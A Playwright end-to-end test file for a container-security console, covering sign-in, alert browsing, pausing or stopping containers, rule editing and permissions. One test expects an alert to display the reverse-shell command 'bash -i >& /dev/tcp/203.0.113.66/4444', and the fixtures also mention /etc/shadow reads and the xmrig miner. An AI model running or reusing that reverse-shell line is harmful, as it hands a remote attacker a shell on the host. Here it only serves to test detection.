// What people do with the console, from signing in to stopping an attack, each by the names they see on screen.
import assert from 'node:assert/strict';
import { after, before, suite, test } from 'node:test';
import { type Browser, chromium, type Locator, type Page } from 'playwright-core';
import { buildConsole } from '../../tools/build-console.ts';
import { BROWSER_ARGS, chromiumPath } from '../support/browser.ts';
import { eventually } from '../support/platform.ts';
import { type ConsoleOptions, type ConsolePage, openConsole } from './support/console-page.ts';
import { FAKE_USERS } from './support/fake-api.ts';

/** A console built elsewhere; without it the console is built first. */
const WEB_ROOT = process.env['GUARDCELL_WEB_ROOT'];
const PATIENCE_MS = 30_000;

function rows(page: Page): Locator {
  return page.getByRole('link', { name: /^Open alert: / });
}

async function counted(locator: Locator, wanted: number): Promise<void> {
  await eventually(`${wanted} of ${locator.toString()}`, PATIENCE_MS, async () =>
    (await locator.count()) === wanted ? true : undefined,
  );
}

async function pathBecomes(page: Page, path: RegExp): Promise<void> {
  await page.waitForURL((url) => path.test(url.pathname + url.search));
}

suite('the console', {
  skip: chromiumPath() === undefined ? 'chromium is not installed' : false,
  timeout: 600_000,
}, () => {
  let browser: Browser;
  before(async () => {
    if (WEB_ROOT === undefined) await buildConsole();
    browser = await chromium.launch({ executablePath: chromiumPath() ?? '', args: [...BROWSER_ARGS] });
  });
  after(() => browser?.close());

  function open(options: ConsoleOptions = {}): Promise<ConsolePage> {
    return openConsole(browser, { ...options, ...(WEB_ROOT !== undefined && { webRoot: WEB_ROOT }) });
  }
  const asAdmin = (options: ConsoleOptions = {}): Promise<ConsolePage> => open({ ...options, user: 'admin' });

  test('lets in who knows the password, and goes on to the page that was asked for', async () => {
    await using shown = await open();
    const { page } = shown;
    await shown.open('/events?severity=high');
    await pathBecomes(page, /^\/sign-in/);
    await page.getByLabel('User name').fill('admin');
    await page.getByLabel('Password').fill('not the password');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.getByText('User name or password is not right.').waitFor();
    await page.getByLabel('Password').fill(FAKE_USERS[0]?.password ?? '');
    await page.keyboard.press('Enter');
    await pathBecomes(page, /^\/events\?severity=high/);
    await rows(page).first().waitFor();
    await page.getByRole('button', { name: 'Account' }).click();
    await page.getByRole('menuitem', { name: 'Sign out' }).click();
    await pathBecomes(page, /^\/sign-in/);
    await shown.open('/');
    await pathBecomes(page, /^\/sign-in/);
    assert.deepEqual(await shown.faults(), []);
  });

  test('is walked through by keyboard: places, the sheet of keys, the palette', async () => {
    await using shown = await asAdmin();
    const { page } = shown;
    await shown.open('/');
    for (const [keys, path] of [
      ['ge', /^\/events/],
      ['gc', /^\/containers/],
      ['gr', /^\/rules/],
      ['ga', /^\/response/],
      ['gs', /^\/settings/],
      ['go', /^\/$/],
    ] as const) {
      for (const key of keys) await page.keyboard.press(key);
      await pathBecomes(page, path);
      // The product's name leads to the overview too.
      await counted(page.locator('nav[aria-label=Main] [aria-current=page]'), keys === 'go' ? 2 : 1);
    }
    await page.keyboard.press('?');
    const sheet = page.getByRole('dialog', { name: 'Keyboard shortcuts' });
    await sheet.waitFor();
    await page.keyboard.press('Escape');
    await sheet.waitFor({ state: 'hidden' });
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('edge-ng');
    await page.getByRole('option', { name: /edge-nginx/ }).waitFor();
    await page.keyboard.press('Enter');
    await pathBecomes(page, /^\/containers\/[0-9a-f]{64}/);
    await page.keyboard.press('Control+k');
    await page.getByRole('combobox').fill('xmrig');
    await page.getByRole('option', { name: 'Search events for “xmrig”' }).click();
    await pathBecomes(page, /^\/events\?q=xmrig/);
    assert.deepEqual(await shown.faults(), []);
  });

  test('filters by a click on a value, by words, and keeps both in the address', async () => {
    await using shown = await asAdmin();
    const { page } = shown;
    await shown.open('/events');
    const filters = page.getByRole('complementary', { name: 'Filters' });
    await filters.getByRole('button', { name: /^blog-php/ }).click();
    await pathBecomes(page, /container=[0-9a-f]{64}/);
    await shown.settled();
    const inBlog = await page.getByText(/^\d+ alerts$/).textContent();
    assert.notEqual(inBlog, '302 alerts');
    await page.keyboard.press('/');
    await page.keyboard.type('XMRIG stratum');
    await pathBecomes(page, /q=XMRIG\+stratum/);
    await counted(rows(page), 1);
    await page.reload();
    await counted(rows(page), 1);
    assert.equal(
      await page.getByLabel('Search words in message, rule, path, command').inputValue(),
      'XMRIG stratum',
    );
    await page.getByRole('button', { name: 'Clear all' }).click();
    await eventually('all alerts again', PATIENCE_MS, async () =>
      (await page.getByText('302 alerts').count()) > 0 ? true : undefined,
    );
    await page.goBack();
    await pathBecomes(page, /q=XMRIG/);
    assert.deepEqual(await shown.faults(), []);
  });

  test('opens, walks and closes alerts by keyboard', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    await shown.open('/events');
    for (const [key, at] of [
      ['j', 0],
      ['j', 1],
      ['k', 0],
      ['j', 1],
    ] as const) {
      await page.keyboard.press(key);
      await page.locator(`[id="row-${fake.state.alerts[at]?.id}"]:focus`).waitFor();
    }
    await page.keyboard.press('Enter');
    await pathBecomes(page, new RegExp(`/events/${fake.state.alerts[1]?.id}`));
    const drawer = page.getByRole('complementary', { name: 'Alert' });
    await drawer.getByText('/etc/shadow').first().waitFor();
    await page.keyboard.press('j');
    await pathBecomes(page, new RegExp(`/events/${fake.state.alerts[2]?.id}`));
    await drawer.getByRole('heading', { name: 'Why it matched' }).waitFor();
    await drawer.getByText('bash -i >& /dev/tcp/203.0.113.66/4444').first().waitFor();
    await drawer.getByText('evt.rawres').first().waitFor();
    await page.keyboard.press('Escape');
    await drawer.waitFor({ state: 'hidden' });
    await pathBecomes(page, /^\/events$/);
    assert.deepEqual(await shown.faults(), []);
  });

  test('shows alerts as they happen; paused, it counts what waits', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    await shown.open('/events');
    await eventually('a live stream', PATIENCE_MS, () => (fake.streams() > 0 ? true : undefined));
    const first = fake.emitAlert('Cryptocurrency miner started');
    await page.locator(`[id="row-${first.id}"]`).waitFor();
    await page.getByRole('button', { name: 'Pause', exact: true }).click();
    await pathBecomes(page, /tail=paused/);
    const second = fake.emitAlert('Account file written in container');
    fake.emitAlert('Interactive shell in container');
    const fresh = page.getByRole('button', { name: 'Show 2 new alerts' });
    await fresh.waitFor();
    await page.getByText('2 new', { exact: true }).waitFor();
    await counted(page.locator(`[id="row-${second.id}"]`), 0);
    await fresh.click();
    await page.locator(`[id="row-${second.id}"]`).waitFor();
    await page.getByRole('button', { name: 'Resume', exact: true }).click();
    const third = fake.emitAlert('Password hashes read in container');
    await page.locator(`[id="row-${third.id}"]`).waitFor();
    assert.ok((await shown.shift()) < 0.02);
    assert.deepEqual(await shown.faults(), []);
  });

  test('pauses a container from its alert after asking, and undoes it', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    const alert = fake.state.alerts[0];
    await shown.open(`/events/${alert?.id}`);
    const drawer = page.getByRole('complementary', { name: 'Alert' });
    await drawer.getByRole('button', { name: 'Pause', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Pause shop-api?' });
    await dialog.getByText('Every process of the container is frozen.').waitFor();
    await dialog.getByText('Can be undone').waitFor();
    await dialog.getByLabel('Reason (kept in the history)').fill('reverse shell');
    assert.equal(
      fake.requests.some((each) => each.startsWith('POST /api/v1/actions')),
      false,
    );
    await dialog.getByRole('button', { name: 'Pause', exact: true }).click();
    await page.getByText('Paused shop-api').waitFor();
    assert.equal(fake.state.containers.find(({ name }) => name === 'shop-api')?.state, 'paused');
    assert.equal(fake.state.actions[0]?.reason, 'reverse shell');
    await page.getByRole('button', { name: 'Undo' }).first().click();
    await page.getByText('Resumed shop-api').waitFor();
    assert.equal(fake.state.containers.find(({ name }) => name === 'shop-api')?.state, 'running');
    assert.equal(fake.state.actions[0]?.undoes, fake.state.actions[1]?.id);
    assert.deepEqual(await shown.faults(), []);
  });

  test('makes people type what they are about to destroy', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    const alert = fake.state.alerts[0];
    await shown.open(`/events/${alert?.id}`);
    const drawer = page.getByRole('complementary', { name: 'Alert' });
    await drawer.getByRole('button', { name: 'Stop', exact: true }).click();
    const dialog = page.getByRole('dialog', { name: 'Stop shop-api?' });
    const run = dialog.getByRole('button', { name: 'Stop', exact: true });
    await dialog.getByText('Cannot be undone').waitFor();
    assert.equal(await run.isDisabled(), true);
    await dialog.getByLabel('Type shop-api to confirm').fill('shop-api');
    await run.click();
    await page.getByText('Stopped shop-api').waitFor();
    assert.deepEqual(await shown.faults(), []);
  });

  test('remembers language and theme', async () => {
    await using shown = await asAdmin();
    const { page } = shown;
    await shown.open('/');
    await page.getByRole('button', { name: 'Language' }).click();
    await page.getByRole('menuitemradio', { name: '简体中文' }).click();
    await page.getByRole('heading', { level: 1, name: '总览' }).waitFor();
    await page.keyboard.press('Escape');
    await page.getByRole('button', { name: '主题' }).click();
    await page.getByRole('menuitemradio', { name: '深色' }).click();
    await page.reload();
    await page.getByRole('heading', { level: 1, name: '总览' }).waitFor();
    assert.equal(await page.locator('html').getAttribute('lang'), 'zh-CN');
    assert.equal(await page.locator('html').getAttribute('data-theme'), 'dark');
    assert.deepEqual(await shown.faults(), []);
  });

  test('finds a container and shows what it may do and what happened in it', async () => {
    await using shown = await asAdmin();
    const { page } = shown;
    await shown.open('/containers');
    await page.getByLabel('Search name, image, id, pod').fill('ci-run');
    await page.getByRole('link', { name: 'ci-runner' }).first().click();
    await page.getByRole('heading', { level: 1, name: 'ci-runner' }).waitFor();
    await page.getByText('Privileged').first().waitFor();
    await page.getByRole('link', { name: 'Mounts & capabilities' }).click();
    await page.getByText('/var/run/docker.sock').first().waitFor();
    await counted(page.locator('main nav [aria-current]'), 1);
    await page.getByText('SYS_ADMIN').first().waitFor();
    assert.deepEqual(await shown.faults(), []);
  });

  test('switches a rule off and on again', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    const enabled = (): boolean | undefined =>
      fake.state.rules.find(({ name }) => name === 'Kernel module loaded')?.enabled;
    await shown.open('/rules?q=kernel+module');
    const toggle = (checked: boolean): Locator =>
      page.getByRole('switch', { name: /Kernel module/, checked }).first();
    await toggle(true).press('Space');
    await toggle(false).waitFor();
    await eventually('off', PATIENCE_MS, () => (enabled() === false ? true : undefined));
    await shown.settled();
    await toggle(false).press('Space');
    await eventually('on', PATIENCE_MS, () => (enabled() === true ? true : undefined));
    await toggle(true).waitFor();
    await page
      .getByRole('link', { name: /Kernel module/ })
      .first()
      .click();
    await pathBecomes(page, /^\/rules\/Kernel%20module%20loaded/);
    await page.getByRole('complementary').getByText('evt.type').first().waitFor();
    assert.deepEqual(await shown.faults(), []);
  });

  test('creates, changes and deletes a response rule', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    const stored = (): (typeof fake.state.responses)[number] | undefined =>
      fake.state.responses.find(({ name }) => name === 'pause-shells');
    await shown.open('/response/new');
    const form = page.getByRole('complementary').last();
    await form.getByLabel('Name', { exact: true }).fill('pause-shells');
    await form.getByLabel('Description').fill('Pause on shells of servers.');
    await form.getByLabel('Condition (CEL)').fill('container.id != "host"');
    await form.getByRole('button', { name: /^(Create|Save)$/ }).click();
    await page.getByText('Saved pause-shells').waitFor();
    assert.equal(stored()?.guard, 'container.id != "host"');
    assert.ok((stored()?.actions.length ?? 0) > 0);
    await shown.open('/response/rules/pause-shells');
    await form.getByLabel('Description').fill('Pause on any shell.');
    await form.getByRole('button', { name: 'Save' }).click();
    await eventually('changed', PATIENCE_MS, () =>
      stored()?.description === 'Pause on any shell.' ? true : undefined,
    );
    await shown.open('/response/rules/pause-shells');
    await form.getByRole('button', { name: 'Delete' }).click();
    const dialog = page.getByRole('dialog', { name: 'Delete pause-shells?' });
    await dialog.getByRole('button', { name: 'Delete' }).click();
    await page.getByText('Deleted pause-shells').waitFor();
    assert.equal(stored(), undefined);
    assert.deepEqual(await shown.faults(), []);
  });

  test('shows response rules from files without a way to change them', async () => {
    await using shown = await asAdmin();
    const { page } = shown;
    await shown.open('/response/rules/kill-reverse-shell');
    const panel = page.getByRole('complementary').last();
    await panel.getByText('This rule comes from a file and is changed there.').waitFor();
    await counted(panel.getByRole('button', { name: /^(Save|Delete)$/ }), 0);
    assert.deepEqual(await shown.faults(), []);
  });

  test('lists what was done, filters it by state, and undoes', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    await shown.open('/response/history?state=succeeded');
    await counted(page.locator('main [aria-current=page]'), 1);
    await page.getByText('blog-php').first().waitFor();
    const quarantine = fake.state.actions.find(
      ({ action, state }) => action === 'quarantine' && state === 'succeeded',
    );
    await shown.open(`/response/history/${quarantine?.id}`);
    await page.getByRole('complementary').last().getByRole('button', { name: 'Undo' }).click();
    await page.getByText('Released blog-php').waitFor();
    assert.equal(fake.state.quarantined.size, 0);
    assert.deepEqual(await shown.faults(), []);
  });

  test('creates an API key and shows its token once', async () => {
    await using shown = await asAdmin();
    const { page, fake } = shown;
    await shown.open('/settings/keys');
    await page.getByRole('button', { name: 'New API key' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Name').fill('deploy script');
    await dialog.getByRole('button', { name: 'Create' }).click();
    await page.getByText('It is shown only this once; only its hash is stored.').waitFor();
    await page.getByText(/gck_\S{20,}/).waitFor();
    await page.reload();
    await page.getByText('deploy script').first().waitFor();
    await counted(page.getByText(/gck_/), 0);
    assert.equal(fake.state.apiKeys.at(-1)?.name, 'deploy script');
    assert.deepEqual(await shown.faults(), []);
  });

  test('says so when there is nothing yet, and when the sensor cannot run', async () => {
    await using shown = await asAdmin({
      empty: true,
      prepare: (fake) => {
        fake.state.sensor = 'unavailable';
      },
    });
    const { page } = shown;
    await shown.open('/');
    await page.getByText('The sensor cannot run on this host').first().waitFor();
    await page.getByText('GC_SENSOR_NO_BTF').first().waitFor();
    await page.getByText('No alerts in this time').first().waitFor();
    await shown.open('/events');
    await page.getByText('No alerts yet').waitFor();
    assert.deepEqual(await shown.faults(), []);
  });

  test('says in Chinese what became of actions, what is wrong with a host and why something was refused', async () => {
    await using shown = await asAdmin({
      look: { name: 'zh', theme: 'light', language: 'zh-CN' },
      prepare: (fake) => {
        fake.state.sensor = 'unavailable';
      },
    });
    const { page } = shown;
    await shown.open('/');
    await page.getByText('内核没有类型信息（BTF）').first().waitFor();
    await shown.open('/response/history');
    for (const detail of [
      '容器已与所有网络断开',
      '冷却中：不到 300 秒前刚执行过。',
      '已送达 hooks.example.com（状态 204）。',
    ]) {
      await page.getByText(detail, { exact: true }).first().waitFor();
    }
    await shown.open('/settings/account');
    await page.getByLabel('当前密码').fill('not the password');
    await page.getByLabel('新密码', { exact: true }).fill('a long new password');
    await page.getByLabel('再次输入新密码').fill('a long new password');
    await page.getByRole('button', { name: '修改密码' }).click();
    await page.getByRole('alert').filter({ hasText: '用户名或密码不正确 (GC_BAD_CREDENTIALS)' }).waitFor();
    await shown.faults();
  });

  test('explains an error of the server and recovers', async () => {
    await using shown = await asAdmin({ prepare: (fake) => void fake.state.failing.add('listEvents') });
    const { page, fake } = shown;
    await shown.open('/events');
    await page.getByText('This could not be loaded').waitFor();
    await page.getByText('GC_INTERNAL').first().waitFor();
    fake.state.failing.clear();
    await page.getByRole('button', { name: 'Try again' }).first().click();
    await rows(page).first().waitFor();
    const faults = await shown.faults();
    assert.deepEqual([...new Set(faults)], ['500 of /api/v1/events']);
  });

  test('offers a viewer nothing that only others may do', async () => {
    await using shown = await open({ user: 'victor' });
    const { page, fake } = shown;
    await shown.open(`/events/${fake.state.alerts[0]?.id}`);
    const drawer = page.getByRole('complementary', { name: 'Alert' });
    const pause = drawer.getByRole('button', { name: 'Pause', exact: true });
    await pause.waitFor();
    assert.equal(await pause.isDisabled(), true);
    await shown.open('/rules?q=kernel+module');
    assert.equal(
      await page
        .getByRole('switch', { name: /Kernel module/ })
        .first()
        .isDisabled(),
      true,
    );
    await shown.open('/settings/keys');
    await page.getByText('You may not see this').first().waitFor();
    const asked = fake.requests.filter((each) => !each.startsWith('GET ') && !each.includes('/session'));
    assert.deepEqual(asked, []);
  });
});
